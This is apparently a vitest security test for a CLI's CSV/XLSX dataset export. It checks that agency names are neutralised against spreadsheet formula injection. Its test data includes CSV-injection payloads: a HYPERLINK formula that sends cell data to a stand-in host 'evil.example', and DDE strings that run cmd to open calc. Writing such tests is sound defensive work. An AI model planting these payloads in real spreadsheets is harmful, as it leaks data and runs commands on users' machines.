// Formula injection in the dataset exports (`gongkai export --to csv|xlsx`): an agency name is whatever a collected
// report prints, so a report can carry a name such as =HYPERLINK(…). Opened in Excel or WPS, a CSV cell starting
// with = + - @ (or a tab / carriage return) is taken as a formula (OWASP "CSV Injection"). XLSX cells written as
// strings are never formulas. Markup in a name is only text in both (there is no HTML to inject into).
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import JSZip from 'jszip';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runCli } from './support/cli.ts';
import { seed } from './support/seeds.ts';

const NAMES = [
  '=HYPERLINK("http://evil.example/?d="&A1,"查看详情")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
];

let dir: string;
beforeAll(() => {
  dir = mkdtempSync(join(tmpdir(), 'gongkai-sec-export-'));
  const e = seed('000').expected;
  for (const [i, agency] of NAMES.entries())
    writeFileSync(
      join(dir, `r${i}.json`),
      JSON.stringify({
        agency,
        year: 2023,
        format: '2021',
        fields: e.fields,
        blank: [],
        uncertain: [],
        sections: {},
      }),
    );
});
afterAll(() => rmSync(dir, { recursive: true, force: true }));

/** RFC 4180 fields of a CSV text (quoted fields, doubled quotes, CRLF). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') {
      row.push(cell);
      cell = '';
    } else if (ch === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += ch;
  }
  return rows;
}

const inputs = () => NAMES.map((_, i) => join(dir, `r${i}.json`));

describe('gongkai export', () => {
  let agencies: string[] = [];
  beforeAll(async () => {
    const out = join(dir, 'ds.csv');
    const r = await runCli(['export', ...inputs(), '--to', 'csv', '--out', out]);
    expect(r.code, r.stderr).toBe(0);
    const rows = parseCsv(readFileSync(out, 'utf8').replace(/^\uFEFF/, ''));
    const col = rows[0]!.indexOf('agency');
    agencies = rows.slice(1).map((r) => r[col]!);
  });

  it('writes every agency name of the reports into the CSV', () => {
    expect(agencies).toHaveLength(NAMES.length);
    for (const name of NAMES) expect(agencies.some((a) => a.endsWith(name.trim()))).toBe(true);
  });

  // Formula injection: text cells starting with = + - @ \t \r get a leading single quote (src/cli/commands/export.ts).
  it('neutralises text cells that a spreadsheet would run as a formula', () => {
    for (const a of agencies) expect(a, `CSV cell ${JSON.stringify(a)}`).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('XLSX keeps them as text cells, never formulas', async () => {
    const out = join(dir, 'ds.xlsx');
    const r = await runCli(['export', ...inputs(), '--to', 'xlsx', '--out', out]);
    expect(r.code, r.stderr).toBe(0);
    const zip = await JSZip.loadAsync(readFileSync(out));
    const sheets = Object.keys(zip.files).filter((f) => /^xl\/worksheets\/sheet\d+\.xml$/.test(f));
    expect(sheets.length).toBeGreaterThan(0);
    for (const s of sheets) expect(await zip.file(s)!.async('string')).not.toMatch(/<f[ >]/);
    const strings = await zip.file('xl/sharedStrings.xml')?.async('string');
    const all = `${strings ?? ''}${await zip.file(sheets[0]!)!.async('string')}`;
    expect(all).toContain('=HYPERLINK(');
  });
});
